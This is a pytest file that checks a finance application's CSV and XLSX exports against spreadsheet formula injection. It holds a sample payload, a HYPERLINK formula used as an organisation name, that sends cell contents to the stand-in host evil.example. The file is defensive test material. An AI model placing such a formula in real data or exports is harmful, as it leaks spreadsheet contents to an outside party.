"""Formula-safe exports (issue 15, finding 2): an organisation named
`=HYPERLINK("http://evil.example/?leak="&A1,"x")` (any sign-up may choose its name) appeared as a
live formula in finance's XLSX exports and began a CSV cell with a bare `=`. Every text cell
that could start a formula now begins with a single quote, and XLSX text is written as text."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from accounts.models import Organisation
from core.spreadsheet import FORMULA_TRIGGERS, spreadsheet_cell
from finance.exports import report_csv_lines, report_xlsx, temporary_file
from finance.reports import ReportFilters, report_build
from ledger.models import AccountCode, EntryKind
from ledger.services import LegSpec, accounting_period_for, journal_post, ledger_account_for

pytestmark = [pytest.mark.django_db, pytest.mark.dates]

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
DAY = dt.date(2026, 3, 10)


@pytest.fixture
def evil_licensee(tenant_factory):
    licensee = tenant_factory(Organisation.Kind.AI_DEVELOPER, EVIL).organisation
    holder = tenant_factory(Organisation.Kind.CREATOR, "@SUM(1+1)").organisation
    journal_post(
        kind=EntryKind.UPFRONT_FEE,
        currency="USD",
        effective_date=DAY,
        legs=[
            LegSpec(
                ledger_account_for(
                    code=AccountCode.LICENSEE_RECEIVABLE, currency="USD", organisation=licensee
                ),
                10_000,
            ),
            LegSpec(
                ledger_account_for(code=AccountCode.PLATFORM_COMMISSION, currency="USD"), -1_000
            ),
            LegSpec(
                ledger_account_for(
                    code=AccountCode.HOLDER_PENDING, currency="USD", organisation=holder
                ),
                -9_000,
            ),
        ],
        memo="fee",
        reference="fee:evil",
        idempotency_key="fee:evil",
    )
    return licensee


@pytest.mark.parametrize("name", ["revenue_by_licensee", "receivables", "trial_balance"])
def test_a_formula_name_is_text_in_csv_and_xlsx(evil_licensee, name):
    report = report_build(name=name, filters=ReportFilters(period=accounting_period_for(day=DAY)))
    cells = [
        cell for row in csv.reader(io.StringIO("".join(report_csv_lines(report)))) for cell in row
    ]
    assert not any(
        cell.startswith(FORMULA_TRIGGERS) and not cell.lstrip("+-").replace(".", "").isdigit()
        for cell in cells
    )
    if name != "trial_balance":  # the trial balance names accounts, not organisations
        assert "'" + EVIL in cells

    path = temporary_file(".xlsx")
    try:
        report_xlsx(report, path)
        workbook = load_workbook(path)  # not read-only: data_type is what Excel would see
        sheet = workbook.active
        texts = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
        assert texts and all(cell.data_type == "s" for cell in texts)
        assert not any(cell.value.startswith("=") for cell in texts)
        numbers = [
            cell
            for row in sheet.iter_rows(min_row=2)
            for cell in row
            if cell.data_type == "n" and cell.value is not None
        ]
        assert numbers  # amounts we computed stay numbers
    finally:
        path.unlink()


NUMBER = re.compile(r"[+-][0-9]+(\.[0-9]+)?")


def _could_run(cell: str) -> bool:
    """A cell a spreadsheet could read as a formula: it begins with a trigger and is not a
    plain signed number."""
    return cell.startswith(FORMULA_TRIGGERS) and not NUMBER.fullmatch(cell)


@given(st.text(max_size=40) | st.from_regex(r"[=+\-@\t\r].{0,20}", fullmatch=True))
def test_no_cell_can_run_and_nothing_else_changes(text):
    safe = spreadsheet_cell(text)
    assert not _could_run(safe)
    assert safe in (text, "'" + text)
    if not text.startswith(FORMULA_TRIGGERS):
        assert safe == text


def test_numbers_stay_numbers():
    assert spreadsheet_cell(-1200) == -1200
    assert spreadsheet_cell("-1200") == "-1200" and spreadsheet_cell("+0.5") == "+0.5"
    assert spreadsheet_cell("-1+1") == "'-1+1"
